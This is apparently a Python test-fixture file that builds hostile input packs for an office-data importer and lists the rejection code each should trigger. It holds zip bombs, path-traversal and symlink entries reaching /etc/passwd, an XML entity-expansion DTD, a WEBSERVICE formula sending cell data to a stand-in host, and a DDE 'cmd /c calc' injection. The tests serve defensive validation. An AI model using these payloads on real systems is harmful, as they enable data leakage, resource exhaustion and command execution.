"""Packs from strangers, each made in a folder."""

from __future__ import annotations

import stat
import zipfile

import openpyxl
from office_month import csv_text, tables, write_tables

MIB = 1024 * 1024


def member(name, data, **attributes):
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    for key, value in attributes.items():
        setattr(info, key, value)
    return info, data


def zipped(path, *members):
    """A zip with a good `employees.csv` and the members given."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("employees.csv", csv_text(tables(2)["employees"]))
        for info, data in members:
            archive.writestr(info, data)
    return path


def bomb_by_ratio(folder):
    return zipped(folder / "pack.zip", member("punches.csv", b"0" * (40 * MIB)))


def bomb_by_declared_size(folder):
    """A member whose directory entry promises more than will ever be unpacked."""
    path = zipped(folder / "pack.zip", member("punches.csv", b"nip,time\n"))
    raw = bytearray(path.read_bytes())
    at = raw.rindex(b"PK\x01\x02") + 24
    raw[at : at + 4] = (600 * MIB).to_bytes(4, "little")
    path.write_bytes(raw)
    return path


def bomb_inside_a_workbook(folder):
    return zipped(folder / "pack.xlsx", member("xl/worksheets/sheet1.xml", b" " * (40 * MIB)))


def too_many_members(folder):
    notes = (member(f"note-{number}.txt", b"") for number in range(200))
    return zipped(folder / "pack.zip", *notes)


def path_that_climbs(folder):
    return zipped(folder / "pack.zip", member("../punches.csv", b"nip,time\n"))


def path_from_the_root(folder):
    return zipped(folder / "pack.zip", member("/etc/punches.csv", b"nip,time\n"))


def link_in_a_zip(folder):
    link = member("punches.csv", b"/etc/passwd", external_attr=(stat.S_IFLNK | 0o777) << 16)
    return zipped(folder / "pack.zip", link)


def link_in_a_folder(folder):
    secret = folder / "secret.csv"
    secret.write_text("nip,time\n", "utf-8")
    pack = write_tables(folder / "pack", {"employees": tables(2)["employees"]})
    (pack / "punches.csv").symlink_to(secret)
    return pack


def nul_bytes(folder):
    pack = write_tables(folder / "pack", tables(2))
    path = pack / "punches.csv"
    path.write_bytes(path.read_bytes().replace(b",in\n", b",in\0\n", 1))
    return pack


def entities_in_a_workbook(folder):
    """A sheet whose document type would grow while it is parsed."""
    book = openpyxl.Workbook()
    book.active.title = "employees"
    book.active.append(["nip"])
    book.save(folder / "good.xlsx")
    kind = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    with (
        zipfile.ZipFile(folder / "good.xlsx") as good,
        zipfile.ZipFile(folder / "pack.xlsx", "w", zipfile.ZIP_DEFLATED) as bad,
    ):
        for info in good.infolist():
            more = kind if info.filename.endswith("sheet1.xml") else b""
            bad.writestr(info.filename, more + good.read(info))
    return folder / "pack.xlsx"


HOSTILE = {
    bomb_by_ratio: "zip-ratio",
    bomb_by_declared_size: "zip-too-large",
    bomb_inside_a_workbook: "zip-ratio",
    too_many_members: "zip-too-many-members",
    path_that_climbs: "path-leaves-pack",
    path_from_the_root: "path-leaves-pack",
    link_in_a_zip: "zip-link",
    link_in_a_folder: "path-leaves-pack",
    nul_bytes: "nul-byte",
    entities_in_a_workbook: "xml-with-dtd",
}


def formula_in_a_sheet(folder, pack):
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in pack.items():
        sheet = book.create_sheet(name)
        sheet.append(list(rows[0]))
        for row in rows:
            sheet.append(list(row.values()))
    book["employees"]["B2"] = '=WEBSERVICE("https://example.invalid/"&A2)'
    path = folder / "pack.xlsx"
    book.save(path)
    return path


def formula_in_a_csv(folder, pack):
    pack["employees"][0]["name"] = "=cmd|'/c calc'!A0"
    return write_tables(folder / "pack", pack)
